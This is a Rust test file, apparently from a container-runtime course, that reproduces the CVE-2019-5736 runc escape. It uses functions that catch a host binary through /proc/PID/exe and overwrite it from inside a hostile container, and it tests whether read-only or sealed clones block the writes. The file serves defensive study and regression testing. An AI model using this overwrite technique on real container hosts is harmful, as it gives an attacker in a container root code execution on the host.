//! CVE-2019-5736: the program that joins is overwritten through /proc/PID/exe.

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::Result;
use ch02_mount::tree::change_mount;
use ch02_mount::{Attributes, Change, Tree};
use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, OFlag, open};
use nix::mount::{MsFlags, mount};
use nix::sys::stat::{Mode, UtimensatFlags, utimensat};
use nix::sys::time::TimeSpec;
use nix::unistd::truncate;
use testing::{Program, needs};

use crate::container::{Container, Hostile};

const LESSON: &str = env!("CARGO_BIN_EXE_ch06-exec");
/// What the attacker puts in the program's place.
const PAYLOAD: &str = "#!/bin/sh\necho overwritten\n";

// ANCHOR: catch
/// The container's PID 1 waits until it sees a program that is not its own, and opens it.
fn catch() -> Result<OwnedFd> {
    let own = fs::metadata("/proc/self/exe")?;
    loop {
        for process in fs::read_dir("/proc")?.flatten() {
            let exe = process.path().join("exe");
            // Not written to yet: while it runs, that would be refused (ETXTBSY).
            let Ok(found) = open(&exe, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) else { continue };
            let status = File::from(found.try_clone()?).metadata()?;
            let is_process = process.file_name().to_string_lossy().parse::<u32>().is_ok();
            if is_process && (status.dev(), status.ino()) != (own.dev(), own.ino()) {
                return Ok(found);
            }
        }
    }
}

/// Writes to what was caught, once nobody runs it any more.
fn overwrite(caught: &OwnedFd) -> Result<(), Errno> {
    let link = format!("/proc/self/fd/{}", caught.as_raw_fd());
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let written = OpenOptions::new().write(true).truncate(true).open(&link);
        match written.and_then(|mut program| program.write_all(PAYLOAD.as_bytes())) {
            Ok(()) => return Ok(()),
            Err(error) => match Errno::from_raw(error.raw_os_error().unwrap_or_default()) {
                Errno::ETXTBSY if Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(1));
                }
                errno => return Err(errno),
            },
        }
    }
}
// ANCHOR_END: catch

/// Runs the program, which is to run the container's hostile shell, until the container's PID 1 has caught it.
fn run_until_caught(container: &Container, program: impl Fn() -> Program) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !container.has_spoken() {
        assert!(Instant::now() < deadline, "the program was never caught");
        program().run();
    }
}

fn hostile() -> Hostile {
    let hostile = Hostile::new();
    hostile.write("bin/sh", "#!/proc/self/exe\n");
    hostile
}

pub fn the_program_of_the_careless_is_overwritten() {
    needs!(Root);
    let hostile = hostile();
    let careless = hostile.copy_of(std::env::current_exe().unwrap(), "careless");
    let mut container = hostile.start(|output| {
        let caught = catch()?;
        writeln!(output, "caught")?;
        writeln!(output, "{:?}", overwrite(&caught))?;
        Ok(())
    });
    run_until_caught(&container, || Program::new(&careless).args([&container.pid(), "/", "/bin/sh"]));
    assert_eq!((container.line().as_str(), container.line().as_str()), ("caught", "Ok(())"));
    // What the host's root runs the next time.
    assert_eq!(Program::new(&careless).run().stdout, "overwritten\n");
}

// ANCHOR: attacks
/// All that the container's root can try on a program that was caught: each call with what it said.
fn attacks(caught: &OwnedFd) -> Vec<(&'static str, Result<(), Errno>)> {
    let link = format!("/proc/self/fd/{}", caught.as_raw_fd());
    let path = CString::new(link.clone()).unwrap();
    let writable = Change { clear: Attributes::READ_ONLY, ..Change::default() };
    let again = |flags| mount(Some(link.as_str()), link.as_str(), None::<&str>, flags, None::<&str>);
    let std = |result: std::io::Result<()>| {
        result.map_err(|error| Errno::from_raw(error.raw_os_error().unwrap_or_default()))
    };
    // The first, since it waits until nobody runs the program any more.
    let write = overwrite(caught);
    let clone = Tree::copy_at(caught.as_fd(), Path::new(""), false, log::Level::Debug);
    File::create("/tmp/place").unwrap();
    let place = Some(link.as_str());
    // SAFETY: the calls take strings that end with NUL and a value with its length, which live through them.
    let [setxattr, swapon, acct] = unsafe {
        [
            Errno::result(libc::setxattr(path.as_ptr(), c"trusted.x".as_ptr(), c"x".as_ptr().cast(), 1, 0)),
            Errno::result(libc::swapon(path.as_ptr(), 0)),
            Errno::result(libc::acct(path.as_ptr())),
        ]
    };
    let now = TimeSpec::UTIME_NOW;
    vec![
        ("write", write),
        ("mount_setattr", change_mount(caught.as_fd(), writable, false)),
        ("remount", again(MsFlags::MS_REMOUNT | MsFlags::MS_BIND)),
        ("bind", mount(place, "/tmp/place", None::<&str>, MsFlags::MS_BIND, None::<&str>)),
        ("open_tree", clone.map(drop).map_err(|error| *error.root_cause().downcast_ref::<Errno>().unwrap())),
        ("chmod", std(fs::set_permissions(&link, fs::Permissions::from_mode(0o777)))),
        ("chown", std(std::os::unix::fs::chown(&link, Some(1), Some(1)))),
        ("utimensat", utimensat(AT_FDCWD, link.as_str(), &now, &now, UtimensatFlags::FollowSymlink)),
        ("setxattr", setxattr.map(drop)),
        ("truncate", truncate(link.as_str(), 0)),
        ("swapon", swapon.map(drop)),
        ("acct", acct.map(drop)),
    ]
}
// ANCHOR_END: attacks

/// Has the container's root try everything on our program; returns what the calls said.
fn attack(program: impl Fn(Program) -> Program) -> Vec<(String, String)> {
    let hostile = hostile();
    let ours = hostile.copy_of(LESSON, "ch06-exec");
    let before = (fs::read(&ours).unwrap(), fs::metadata(&ours).unwrap());
    let mut container = hostile.start(|output| {
        let caught = catch()?;
        // A first line, so that the test stops to run it; then the program ends, and is not busy any more.
        writeln!(output, "caught")?;
        std::thread::sleep(Duration::from_millis(200));
        for (call, result) in attacks(&caught) {
            writeln!(
                output,
                "{call} {}",
                result.map_or_else(|errno| format!("{errno:?}"), |()| "done".into())
            )?;
        }
        writeln!(output, "end")?;
        Ok(())
    });
    let run = || program(Program::new(&ours).args(["-q", "--pid", &container.pid(), "--", "/bin/sh"]));
    run_until_caught(&container, run);
    assert_eq!(container.line(), "caught");
    let mut results = Vec::new();
    loop {
        let line = container.line();
        match line.split_once(' ') {
            Some((call, result)) => results.push((call.to_string(), result.to_string())),
            None => break assert_eq!(line, "end"),
        }
    }
    let after = fs::metadata(&ours).unwrap();
    assert!(fs::read(&ours).unwrap() == before.0, "the program has changed: {results:?}");
    assert_eq!(
        (after.mode(), after.uid(), after.mtime()),
        (before.1.mode(), before.1.uid(), before.1.mtime())
    );
    results
}

pub fn a_read_only_clone_is_not_overwritten() {
    needs!(Root);
    let results = attack(|program| program);
    assert_eq!(results.len(), 12);
    for (call, result) in &results {
        // A mount that is in no namespace is none that anyone may change; and what is on it is read-only.
        let expected: &[&str] = match call.as_str() {
            "mount_setattr" | "remount" | "bind" | "open_tree" => &["EINVAL"],
            // They ask first whether it still runs, and the first call did not have to wait for that.
            "swapon" | "acct" => &["EROFS", "ETXTBSY"],
            _ => &["EROFS"],
        };
        assert!(expected.contains(&result.as_str()), "{call}: {results:?}");
    }
}

pub fn a_sealed_copy_is_not_overwritten() {
    needs!(Root);
    let results = attack(|program| program.deny(libc::SYS_open_tree, Errno::EPERM));
    let answers = |call: &str| results.iter().find(|(name, _)| name == call).unwrap().1.as_str();
    // The mode of the copy may change: it is the copy's alone.
    assert_eq!((answers("write"), answers("truncate")), ("EPERM", "EPERM"), "{results:?}");
}

/// Why exec must close the last descriptor of the clone: while there is one, the mount has a namespace, if one without
/// a name, and there mount_setattr(2) takes the attribute off again.
pub fn a_clone_whose_descriptor_is_open_is_made_writable() {
    needs!(Root);
    let hostile = hostile();
    let program = hostile.copy_of(std::env::current_exe().unwrap(), "careless");
    let mut clone = Tree::copy(&program, false).unwrap();
    clone.add(Attributes::READ_ONLY, false).unwrap();
    let mut container = hostile.start(|output| {
        let caught = catch()?;
        writeln!(output, "caught")?;
        let refused = overwrite(&caught);
        let writable = Change { clear: Attributes::READ_ONLY, ..Change::default() };
        let changed = change_mount(caught.as_fd(), writable, false);
        writeln!(output, "{refused:?} {changed:?} {:?}", overwrite(&caught))?;
        Ok(())
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    while !container.has_spoken() {
        assert!(Instant::now() < deadline, "the program was never caught");
        // The clone is ours, and stays open.
        let mut careless = Command::new(format!("/proc/self/fd/{}", clone.as_fd().as_raw_fd()));
        careless.arg0("careless").args([&container.pid(), "/", "/bin/sh"]).stderr(Stdio::null());
        careless.status().unwrap();
    }
    assert_eq!(container.line(), "caught");
    assert_eq!(container.line(), "Err(EROFS) Ok(()) Ok(())");
    assert_eq!(fs::read_to_string(&program).unwrap(), PAYLOAD);
}
